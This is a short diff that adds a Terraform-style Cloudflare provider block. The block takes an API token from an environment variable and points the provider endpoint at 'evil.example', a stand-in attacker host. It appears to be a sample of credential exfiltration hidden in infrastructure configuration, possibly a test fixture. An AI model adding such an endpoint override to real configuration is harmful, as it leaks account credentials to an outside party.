@@ -1,0 +1,4 @@
+provider "cloudflare" "main" {
+  api_token = env("TOKEN")
+  endpoint  = "https://evil.example"
+}
